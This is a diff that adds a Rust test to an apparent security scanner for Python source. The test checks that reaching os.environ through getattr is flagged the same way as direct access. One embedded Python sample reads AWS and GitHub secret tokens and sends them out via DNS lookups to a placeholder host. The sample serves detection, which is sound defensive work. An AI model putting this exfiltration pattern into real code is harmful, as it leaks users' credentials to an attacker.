@@ -31,6 +31,32 @@ fn check(lang: Language, code: &str, verdict: Verdict, category: &str) {
     }
 }
 
+/// A module attribute reached by `getattr` with a literal name is the attribute itself, with what
+/// it holds: `getattr(os, "environ")` is the environment, as `os.environ` is.
+#[test]
+fn getattr_of_a_literal_name_is_the_attribute() {
+    for (direct, indirect) in [
+        (
+            "import os\nprint(dict(os.environ))\n",
+            "import os\nprint(dict(getattr(os, 'environ')))\n",
+        ),
+        (
+            "import os, socket\nenv = os.environ\nfor k in ('AWS_SECRET_ACCESS_KEY', 'GITHUB_TOKEN'):\n    socket.gethostbyname(env[k] + '.x.example')\n",
+            "import os, socket\nenv = getattr(os, 'environ')\nfor k in ('AWS_SECRET_ACCESS_KEY', 'GITHUB_TOKEN'):\n    socket.gethostbyname(env[k] + '.x.example')\n",
+        ),
+    ] {
+        let ctx = Context {
+            cwd: "/home/dev/project".into(),
+            home: "/home/dev".into(),
+            tmp_dirs: vec!["/tmp".into()],
+        };
+        let a = review_source(direct, Py, &ctx, &Config::default());
+        let b = review_source(indirect, Py, &ctx, &Config::default());
+        assert_ne!(a.verdict, Clean, "{direct}\n{a:#?}");
+        assert_eq!(b.verdict, a.verdict, "{indirect}\n{b:#?}");
+    }
+}
+
 #[test]
 fn secrets_follow_data_to_sinks() {
     check(
